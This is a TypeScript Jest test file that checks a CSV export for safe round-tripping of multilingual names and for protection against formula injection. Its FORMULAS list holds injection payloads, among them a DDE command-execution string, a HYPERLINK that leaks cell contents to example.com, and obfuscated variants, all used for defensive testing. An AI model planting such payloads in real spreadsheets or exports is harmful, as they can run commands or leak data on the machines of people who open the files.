import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { COLUMN_NAMES, FILE_FIELDS } from '../../src/connectors/csv/header.js';
import { writePeople, type PersonCells } from '../../src/connectors/csv/write-csv.js';
import { allOf, readWhole } from '../support/csv.js';
import { Office } from '../support/office.js';

const HEADER = FILE_FIELDS.map((field) => COLUMN_NAMES[field]);

const OF_THE_WEST = [
  ['anna@example.com', 'Anna', 'Müller-Weiß', 'Active', 'Ingénieure', 'Forschung & Entwicklung', '', 'yes'],
  ['jose@example.com', 'José', 'Núñez, Dr.', 'Pending', '', 'Ventas; España', 'anna@example.com', 'no'],
  ['bjorn@example.com', 'Bjørn "Bear"', 'Ångström', 'Archived', 'Œuvre – ½ €', '', '', ''],
  ['tom@example.com', "'t", "D'Arcy’s", '', '', 'Sales\nNorth', 'jose@example.com', 'FALSE'],
];

const OF_THE_WORLD = [
  ...OF_THE_WEST,
  ['olga@example.com', 'Ольга', 'Ковальчук', 'Active', 'Διευθυντής', 'Αθήνα', '', 'no'],
  ['noa@example.com', 'נועה', 'כהן', 'Active', 'مهندس', 'القاهرة, مصر', '', 'no'],
  ['mei@example.com', '美', '王', 'Active', 'エンジニア', '개발팀; 서울', '', 'no'],
  ['anh@example.com', 'Ánh', 'Nguyễn', 'Active', 'วิศวกร', 'विकास', '', 'no'],
  ['ani@example.com', 'Անի', 'ბერიძე', 'Active', 'מפתחת "ראשית"', '😀 Fun 👩‍👩‍👧', '', 'no'],
  ['pinar@example.com', 'Pınar', 'IŞIK', 'Active', 'ẞ ﬁ', '𠮷野家', '', 'no'],
];

function peopleOf(rows: readonly (readonly string[])[]): PersonCells[] {
  return rows.map((row) =>
    Object.fromEntries(FILE_FIELDS.map((field, index) => [field, (row[index] ?? '').replaceAll('\n', ' ')])),
  );
}

describe('a spreadsheet program', () => {
  let office: Office;
  beforeAll(() => {
    office = new Office();
  });
  afterAll(() => office[Symbol.dispose]());

  it.each(
    (['utf-8', 'utf-16', 'windows-1252'] as const).flatMap((set) => [
      { set, separator: ',' },
      { set, separator: ';' },
    ]),
  )('V-05: what it saves in $set with "$separator" is read', async ({ set, separator }) => {
    const people = set === 'windows-1252' ? OF_THE_WEST : OF_THE_WORLD;
    const file = await office.saveAsCsv([HEADER, ...people], separator, set);
    const { head, rows } = await readWhole(file, set === 'windows-1252' ? { encoding: set } : {});
    expect(head).toMatchObject({ encoding: set === 'utf-16' ? 'utf-16le' : set, delimiter: separator });
    expect(head.columns.map(({ field }) => field)).toEqual(FILE_FIELDS);
    expect(rows.map(({ cells }) => cells)).toEqual(peopleOf(people));
  });

  const FORMULAS = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1;1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '"=1+1"',
    "'=1+1",
    '＝1+1',
    '＋1+1',
    '－1+1',
    '−1+1',
    '\ufeff=1+1',
    '\u200b=1+1',
    '=HYPERLINK("http://example.com/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://example.com")',
    '{=1+1}',
    'a,=1+1',
    'a;=1+1',
    'a\t=1+1',
    'a\n=1+1',
    'a"\r\n=1+1,"',
    '","=1+1',
    '";"=1+1',
  ];

  async function fileOf(people: readonly PersonCells[]): Promise<string> {
    return (await allOf(writePeople([people]))).join('');
  }

  /** One person for each, the formula in two columns, one of them the last. */
  const suspicious = FORMULAS.map((text, at) => ({ email: `p${at}@example.com`, firstName: text, admin: text }));

  it.each([
    { separators: [','], name: 'commas' },
    { separators: [',', ';', '\t'], name: 'commas, semicolons and tabs' },
  ])('V-14: finds no formula in what we wrote, separated by $name', async ({ separators }) => {
    const sheet = await office.openCsv(await fileOf(suspicious), separators);
    expect(sheet).toContain(`p${FORMULAS.length - 1}@example.com`);
    expect(sheet).not.toContain('table:formula');
  });

  it('V-14: would find them otherwise', async () => {
    const sheet = await office.openCsv('email,first_name\r\nana@example.com,=1+1\r\n', [',']);
    expect(sheet).toContain('table:formula');
  });

  it('V-14: what it opened and saved again is read as what we wrote', async () => {
    const named = [
      ...peopleOf(OF_THE_WORLD).map((person) => ({ ...person, admin: 'no' })),
      ...FORMULAS.filter((text) => !/[\t\r\n\u00a0\u200b\ufeff]|^ /u.test(text)).map((text, at) => ({
        ...peopleOf([[`q${at}@example.com`]])[0],
        firstName: text,
        team: text,
      })),
    ];
    const { rows } = await readWhole(await office.openAndSaveCsv(await fileOf(named)));
    expect(rows.map(({ cells }) => cells)).toEqual(named);
  });
});
